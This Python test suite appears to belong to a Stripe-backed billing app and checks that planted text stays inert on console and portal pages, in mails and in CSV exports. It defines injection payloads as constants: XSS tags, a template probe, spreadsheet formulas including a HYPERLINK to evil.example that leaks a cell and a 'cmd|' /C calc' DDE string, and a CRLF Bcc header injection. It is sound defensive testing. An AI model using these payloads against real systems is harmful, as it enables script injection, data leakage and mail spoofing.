"""Whatever a user, the application or Stripe's dashboard puts into a text is shown as that text: on the console, on
customers' pages, in mails, and in what a spreadsheet opens.
"""

import csv
import io
from html.parser import HTMLParser

from checking_out import make
from owning import console_of, portal_of
from system import System, unique

ELEMENT = "<img src=x onerror=alert(1)>"
MARKUP = f"{ELEMENT}\"'><script>alert(2)</script>"
TEMPLATE = "{{ 7 * '7' }}{% for _ in [] %}"
FORMULA = '=HYPERLINK("https://evil.example?"&A1)'
HEADER = "Ann\r\nBcc: eve@evil.example"
PLANTED = f"{MARKUP} {TEMPLATE}"
_EVALUATED = "7777777"


class _Page(HTMLParser):
    """The elements of a page, as a browser would make them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.made: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        if "onerror" in names or names.get("src") == "x" or (tag == "script" and "src" not in names):
            self.made.append(self.get_starttag_text() or tag)


async def test_a_planted_text_is_only_text(system: System) -> None:
    user = unique("planter")
    fields = {"name": PLANTED, "metadata": {"note": PLANTED}}
    assert (await system.call("POST", "/api/customers", fields, user=user)).status == 201
    paid = await system.pay(user=user, description=PLANTED, metadata={"note": PLANTED})
    declined = await system.pay("pm_card_visa_chargeDeclined", user=user, description=PLANTED)
    assert (paid.status, declined.status) == (201, 402)
    product = await system.call("POST", "/api/products", {"name": PLANTED, "description": PLANTED}, roles=("admin",))
    assert product.status == 201, product.body
    endpoint = {"url": "http://127.0.0.1:9/", "events": ["*"], "description": PLANTED}
    assert (await system.call("POST", "/api/webhook-endpoints", endpoint, roles=("admin",))).status == 201
    _, page = await make(system, user=user, description=PLANTED)
    await system.quiet(60)
    portal, console = await portal_of(system, user), await console_of(system, "admin")
    shown, with_text = 0, 0
    for cookies, paths in (
        (portal.cookies, ("/billing", "/billing/plans", "/billing/invoices", "/billing/methods/add")),
        (console.cookies, (
            "/console", "/console/payments", "/console/customers", "/console/events", "/console/mails",
            "/console/endpoints", "/console/audit", f"/console/payments/{paid.body['id']}",
            f"/console/customers?email={MARKUP}", f"/console/find?q={MARKUP}", f"/console/payments?cursor={MARKUP}",
            f"/console/payments?status={MARKUP}", f"/console/{ELEMENT}", f"/console?done=good:{MARKUP}&mark=00",
            f"/console/customers/{await system.value('SELECT id::text FROM customers LIMIT 1')}",
        )),
        ({}, (page.url.removeprefix(system.api_url), f"/pay/{ELEMENT}", f"/billing/open/{ELEMENT}",
              f"/payments/return?redirect_status={MARKUP}", f"/console/login?then={MARKUP}")),
    ):  # fmt: skip
        for path in paths:
            headers = {"Cookie": "; ".join(f"{name}={value}" for name, value in cookies.items())}
            async with system.http.get(system.api_url + path, headers=headers) as answer:
                text = await answer.text()
            assert "text/html" in answer.headers["Content-Type"], path
            assert not _Page(text).made, path
            assert _EVALUATED not in text, path
            policy = answer.headers["Content-Security-Policy"]
            assert "default-src 'none'" in policy, path
            assert "unsafe" not in policy, path
            shown, with_text = shown + 1, with_text + ("&lt;img src=x" in text)
    assert shown == 24
    assert with_text >= 5, "what was planted is hardly shown: nothing was looked at"
    for mail in await system.fetch("SELECT subject, context::text AS context FROM mails"):
        assert "\n" not in (mail["subject"] or "")


async def test_a_list_for_a_spreadsheet_calculates_nothing(system: System) -> None:
    user = unique("teller")
    for name in (FORMULA, "@SUM(1)", "\uff1dcmd|' /C calc'!A0", "-2+3"):
        assert (await system.call("POST", "/api/customers", {"name": name}, user=unique("cell"))).status == 201
    await system.pay(user=user, description=FORMULA)
    console = await console_of(system, "admin")
    headers = {"Cookie": "; ".join(f"{name}={value}" for name, value in console.cookies.items())}
    for path in ("customers", "payments", "subscriptions", "invoices", "events", "mails", "deliveries", "endpoints",
                 "differences", "runs", "audit"):  # fmt: skip
        async with system.http.get(f"{system.api_url}/console/{path}.csv", headers=headers) as answer:
            rows = list(csv.reader(io.StringIO(await answer.text())))
        assert answer.status == 200
        for cell in (cell for row in rows for cell in row):
            assert not cell.startswith(("=", "@", "\t", "\r", "\uff1d")), (path, cell)
        if path == "customers":
            assert f"'{FORMULA}" in {cell for row in rows for cell in row}


async def test_a_name_makes_no_header(system: System) -> None:
    """A line end in what a user sends never becomes one of a mail or of an answer."""
    user = unique("header")
    refused = await system.call("POST", "/api/customers", {"email": f"ann@example.com\r\n{HEADER}"}, user=user)
    assert refused.status == 422
    made = await system.call("POST", "/api/customers", {"name": HEADER}, user=user)
    assert made.status in (201, 422), made.body
    await system.pay(user=user, description=HEADER)
    await system.quiet(60)
    mails = system.mails_to(user)
    assert mails, "no mail was sent"
    assert all("\n" not in mail.subject and "eve@" not in mail.to for mail in mails)
    url = f"{system.api_url}/console/login"
    async with system.http.post(url, data={"token": "x", "then": f"/console\r\n{HEADER}"}) as answer:
        assert "Bcc" not in answer.headers
